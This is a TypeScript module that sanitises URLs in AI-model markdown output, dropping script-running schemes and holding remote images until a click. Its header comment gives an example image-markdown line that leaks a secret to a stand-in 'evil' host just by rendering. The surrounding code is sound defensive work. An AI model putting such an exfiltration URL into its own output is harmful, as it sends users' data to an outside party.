/**
 * How a URL written by a model may be used. Model output is untrusted: an image URL in it is an
 * exfiltration channel (`![x](https://evil/?d=secret)` leaks by merely rendering), so nothing named
 * there is fetched without a click, and only schemes that cannot run code are kept at all.
 */

const SAFE_PROTOCOL = /^(https?|mailto|tel):/i;
const ANY_PROTOCOL = /^[a-z][a-z0-9+.-]*:/i;
/** Raster and SVG data images: an SVG shown through <img> runs no script and loads nothing. */
const DATA_IMAGE = /^data:image\/(png|jpeg|gif|webp|avif|svg\+xml)[;,]/i;
/** Streamdown's stand-ins for a link or image whose markdown is still streaming. */
const INCOMPLETE = /^streamdown:incomplete-(link|image)$/;
/** Larger inline images than this are not rendered (a model answer is no place for them). */
export const MAX_DATA_IMAGE_CHARS = 2 * 1024 * 1024;

/**
 * Web, mail and phone links, relative links and (as an image source only) data images; javascript:,
 * vbscript:, data:text/html and the like are dropped, also when obfuscated with control characters or
 * whitespace, which browsers ignore inside a scheme.
 */
export function safeMarkdownUrl(url: string, attribute: string): string | null {
  const u = url.trim();
  if (INCOMPLETE.test(u) || SAFE_PROTOCOL.test(u)) return u;
  if (attribute === "src" && DATA_IMAGE.test(u)) return u;
  const squeezed = u.replace(/[\p{Cc}\s]/gu, "");
  return ANY_PROTOCOL.test(squeezed) || squeezed.startsWith("\\") ? null : u;
}

export type ImageSource =
  /** a data image: shown as is, no request */
  | { kind: "inline"; src: string }
  /**
   * anything that would make a request: shown only after a click; host null = this site. `loadable`:
   * the page's CSP lets it load (this site or https); plain http can only be opened as a link.
   */
  | { kind: "remote"; src: string; host: string | null; loadable: boolean }
  /** streaming, dropped or oversized: nothing to show yet */
  | { kind: "none"; reason: "incomplete" | "unsafe" | "too-large" };

const RELATIVE_BASE = "https://relative.invalid/";

export function classifyImageSource(src: unknown): ImageSource {
  if (typeof src !== "string" || src.trim() === "") return { kind: "none", reason: "unsafe" };
  const url = src.trim();
  if (INCOMPLETE.test(url)) return { kind: "none", reason: "incomplete" };
  if (DATA_IMAGE.test(url)) {
    return url.length > MAX_DATA_IMAGE_CHARS
      ? { kind: "none", reason: "too-large" }
      : { kind: "inline", src: url };
  }
  let parsed: URL;
  try {
    parsed = new URL(url, RELATIVE_BASE);
  } catch {
    return { kind: "none", reason: "unsafe" };
  }
  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") return { kind: "none", reason: "unsafe" };
  const host = parsed.origin === new URL(RELATIVE_BASE).origin ? null : parsed.host;
  return { kind: "remote", src: url, host, loadable: host === null || /^https:/i.test(url) };
}
